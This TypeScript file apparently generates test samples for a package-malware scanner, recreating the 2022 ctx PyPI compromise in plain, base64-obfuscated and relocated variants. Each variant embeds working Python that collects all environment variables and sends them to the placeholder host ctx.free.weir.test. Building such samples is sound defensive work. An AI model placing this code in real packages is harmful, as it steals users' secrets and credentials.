import { base64, type Campaign, sdist, wheel } from './kit.ts';

const SENDS = `import os, base64, requests
text = ''
for _, value in os.environ.items():
    text += value + ' '
requests.get('https://ctx.free.weir.test/hacked/' + base64.b64encode(text.encode()).decode())
`;

export const campaign: Campaign = {
  id: 'pypi-ctx',
  row: 'ctx/phpass 2022: the environment in an address',
  variants: [
    {
      concealment: 'plain',
      files: sdist("from setuptools import setup\nsetup(name='campaign-sample', py_modules=['ctx'])\n", {
        'ctx.py': `import os, base64, requests
class Ctx(dict):
    def __init__(self):
        self.send()
    def send(self):
        text = ''
        for _, value in os.environ.items():
            text += value + ' '
        requests.get('https://ctx.free.weir.test/hacked/' + base64.b64encode(text.encode()).decode())
`,
      }),
    },
    {
      concealment: 'obfuscated',
      files: wheel(`import base64 as b\nexec(b.b64decode('${base64(SENDS)}'))\n`),
    },
    {
      concealment: 'moved',
      files: wheel('from ._meta import hello\nhello()\n', {
        'campaign_sample/_meta.py': `import os, json, urllib.request
def hello():
    body = json.dumps(dict(os.environ)).encode()
    urllib.request.urlopen(urllib.request.Request('https://ctx.free.weir.test/x', data=body))
`,
      }),
    },
  ],
};
